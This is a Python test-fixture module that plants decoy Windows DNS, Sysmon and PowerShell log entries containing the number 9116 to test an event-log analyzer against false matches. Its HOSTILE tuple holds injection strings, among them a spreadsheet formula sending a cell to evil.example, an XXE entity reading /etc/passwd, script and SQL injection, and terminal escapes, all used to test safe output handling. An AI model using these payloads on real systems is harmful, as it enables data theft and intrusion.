"""Entries that look like the error and are none: numbers, names, packets and texts with 9116 in them."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime

from analyzer.knowledge import AUDIT_CHANNEL, CLASSIC_CHANNEL
from analyzer.simulate.entry import Entry
from analyzer.simulate.hosts import (
    DNS_AUDIT,
    DNS_CLASSIC,
    DNS_CLASSIC_2012,
    DSC,
    DSC_CHANNEL,
    SYSMON,
    SYSMON_CHANNEL,
    Host,
)
from analyzer.simulate.logs import Logs, Mark
from analyzer.simulate.sessions import Process, open_session
from analyzer.simulate.traces import powershell, programs
from analyzer.simulate.world import SYSTEM, Actor, World

NUMBER = 9116
PACKET = bytes.fromhex("9c23000000010000000000000439313136076578616d706c6500000100019c230000")
"""A DNS query whose id, and whose last bytes, are those of the code."""

LURE = (
    "a key that is already in process of rolling over gives 9116 (0x239C, 0x8007239C, "
    "DNS_ERROR_ROLLOVER_IN_PROGRESS): WIN32 9116,Invoke-DnsServerSigningKeyRollover"
)
SCRIPT = f"# {LURE}\r\ntry {{ Get-DnsServerZone }}\r\ncatch {{ if ($code -eq 9116) {{ return }} }}"

Data = tuple[tuple[str, str], ...]


def plant_on_server(logs: Logs, host: Host, zone: str, time: datetime) -> None:
    """Decoys in the DNS channels: TXT data, a TTL, a setting, a serial, packets."""
    name, place = ("NAME", f"note.{zone}"), (("Zone", zone), ("ZoneScope", "."), ("VirtualizationID", "."))
    text = (("Type", "16"), name, ("TTL", "3600"), ("BufferSize", "92"), ("RDATA", LURE), *place)
    ttl = (("Type", "1"), name, ("TTL", "9116"), ("BufferSize", "4"), ("RDATA", "C0000201"), *place)
    setting = (("Setting", "SocketPoolSize"), ("Scope", "."), ("NewValue", "9116"))
    audit = {"txt-data": (515, text), "ttl": (516, ttl), "setting": (541, setting)}
    for decoy, (event_id, data) in audit.items():
        entry = replace(_entry(host, event_id, time, data), channel=AUDIT_CHANNEL, provider=DNS_AUDIT)
        _add(logs, host, replace(entry, task=5, keywords=0x4000000000100000), decoy)
    classic = Entry(
        host=host.computer,
        channel=CLASSIC_CHANNEL,
        provider=DNS_CLASSIC_2012 if host.old else DNS_CLASSIC,
        event_id=5504,
        time=time,
        record_id=0,
        data=(("param1", "192.0.2.77"),),
        binary=PACKET,
        event_name="DNS_EVENT_INVALID_PACKET_DOMAIN_NAME",
        keywords=0x8000000000008000,
        message="invalid domain name in a packet from 192.0.2.77",
    )
    _add(logs, host, classic, "packet")
    _add(logs, host, replace(classic, event_id=5502, event_name="DNS_EVENT_BAD_TCP_MESSAGE"), "packet")
    written = (("param1", str(NUMBER)), ("param2", zone), ("param3", f"{zone}.dns"))
    serial = replace(
        classic, event_id=3150, data=written, binary=None, event_name="DNS_EVENT_ZONE_WRITE_COMPLETED"
    )
    _add(logs, host, replace(serial, message=f"version 9116 of zone {zone} was written"), "serial")


def plant_on_operator(world: World, logs: Logs, host: Host, actor: Actor, time: datetime) -> None:
    """Decoys where operators work: script text, process ids, a client's query, another provider's 4103."""
    session = open_session(world, host, actor, r"C:\Scripts\Test-Rollover.ps1")
    session.process = replace(session.process, process_id=NUMBER)
    _add(logs, host, powershell.script_block(session, SCRIPT, world.guid(), time), "script-text")
    program = r"C:\Windows\System32\robocopy.exe"
    backup = Process(host, actor, program, f"{program} D:\\data \\\\backup\\data /log:9116.txt", NUMBER)
    task, instance = r"\Backup", world.guid()
    for entry in (
        *programs.task_started(backup, task, instance, time),
        programs.task_ended(backup, task, instance, 0, time),
        programs.process_started(backup, time),
        programs.process_ended(backup, 0, time),
    ):
        _add(logs, host, entry, "process-id")
    query = (
        ("UtcTime", time.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]),
        ("ProcessId", str(NUMBER)),
        ("QueryName", "9116.example"),
        ("QueryStatus", str(NUMBER)),
        ("QueryResults", "-"),
        ("Image", program),
    )
    entry = replace(_entry(host, 22, time, query), channel=SYSMON_CHANNEL, provider=SYSMON, task=22)
    _add(logs, host, entry, "client-query")
    job = (("JobId", f"{{{world.guid()}}}"), ("Message", LURE))
    _add(logs, host, _entry(host, 4103, time, job), "other-provider")


HOSTILE = (
    "<script>alert(9116)</script>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\x1b[31m9116\x1b[0m\x07",
    "\u202egnp.6119\u2066",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "'; DROP TABLE attempts; --",
    "\x01\u2028]]>\ufeff{{7*7}}${9116}",
)
"""Text that a terminal, a page, a spreadsheet, an XML reader or a database must not obey."""


def plant_hostile(world: World, logs: Logs, host: Host, actor: Actor, time: datetime) -> None:
    """Hostile text where anybody can write it: a script, the name of a task, a message."""
    session = open_session(world, host, actor, r"C:\Scripts\Hostile.ps1")
    text = "\r\n".join(HOSTILE)
    _add(logs, host, powershell.script_block(session, text, world.guid(), time), "hostile-text")
    job = (("JobId", f"{{{world.guid()}}}"), ("Message", text))
    _add(logs, host, _entry(host, 4103, time, job), "hostile-text")
    for number, name in enumerate(HOSTILE):
        entries = programs.task_started(session.process, f"\\{name}", world.guid(), time)
        _add(logs, host, entries[number % len(entries)], "hostile-text")


def _entry(host: Host, event_id: int, time: datetime, data: Data) -> Entry:
    """An entry of the DSC channel, for others to be made of."""
    return Entry(
        host=host.computer,
        channel=DSC_CHANNEL,
        provider=DSC,
        event_id=event_id,
        time=time,
        record_id=0,
        data=data,
        keywords=0x8000000000000000,
        process_id=NUMBER,
        thread_id=NUMBER,
        user=SYSTEM.sid,
        message="; ".join(value for _, value in data),
    )


def _add(logs: Logs, host: Host, entry: Entry, decoy: str) -> None:
    logs.add(host.name, entry, Mark(host.name, entry.channel, entry.event_id, entry.time, decoy=decoy))
